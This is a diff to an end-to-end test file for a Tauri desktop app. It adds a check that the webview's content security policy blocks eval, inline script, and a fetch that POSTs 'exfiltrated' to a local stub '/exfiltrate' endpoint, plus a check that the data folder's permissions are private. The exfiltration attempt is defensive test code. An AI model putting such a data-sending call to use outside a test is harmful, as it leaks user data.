@@ -15,7 +15,7 @@
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
-import { chmodSync, existsSync, lstatSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, lstatSync, mkdtempSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join, relative, resolve } from 'node:path';
@@ -130,6 +130,30 @@ test('the page records every IPC answer, event and channel message from the star
     what: 'the app is loaded',
   });
   await snapshot('start');
+  // The page runs under tauri.conf.json's CSP (sent by Tauri as a header): no eval, no inline
+  // script, and no way to send anything anywhere but the IPC — tried here against the stand-in.
+  const probe = await s.cmd('POST', '/execute/async', {
+    script: `const done = arguments[arguments.length - 1];
+      const violated = [];
+      document.addEventListener('securitypolicyviolation', (e) => violated.push(e.effectiveDirective));
+      let evaluated = false;
+      try { evaluated = (0, eval)('true'); } catch (e) { /* refused */ }
+      const tag = document.createElement('script');
+      tag.textContent = 'window.__pdInline = true';
+      document.head.appendChild(tag);
+      fetch(arguments[0], { method: 'POST', body: 'exfiltrated' })
+        .then(() => 'sent', () => 'refused')
+        .then((fetched) => setTimeout(() => done({ evaluated, inline: !!window.__pdInline, fetched, violated }), 300));`,
+    args: [`${stubUrl}/exfiltrate`],
+  });
+  assert.deepEqual(
+    { evaluated: probe.evaluated, inline: probe.inline, fetched: probe.fetched },
+    { evaluated: false, inline: false, fetched: 'refused' },
+    JSON.stringify(probe),
+  );
+  for (const d of ['script-src', 'connect-src']) assert.ok(probe.violated.includes(d), JSON.stringify(probe));
+  assert.ok(!stubSeen.some((r) => r.url === '/exfiltrate'), 'nothing left the page');
+  assert.equal(await s.script('return typeof window.__TAURI__'), 'undefined', 'withGlobalTauri is off');
 });
 
 test('an API key per environment and a webhook token go in through Settings, write-only', async () => {
@@ -370,6 +394,9 @@ test('no key or token in the log, the files, or anything the webview received', 
 
   const running = scanFiles(needles);
   const names = running.files.map((f) => relative(process.env.XDG_DATA_HOME, f));
+  // Other local users cannot even list the folder (personal data, ID-document thumbnails).
+  const dataDir = join(process.env.XDG_DATA_HOME, 'io.partnerdesk.app');
+  assert.equal((statSync(dataDir).mode & 0o777).toString(8), '700', `${dataDir} is private`);
   for (const must of ['io.partnerdesk.app/partner-desk.sqlite3', 'io.partnerdesk.app/embedded-sandbox.sqlite3']) {
     assert.ok(names.includes(must), `${must} scanned: ${names.join(', ')}`);
   }
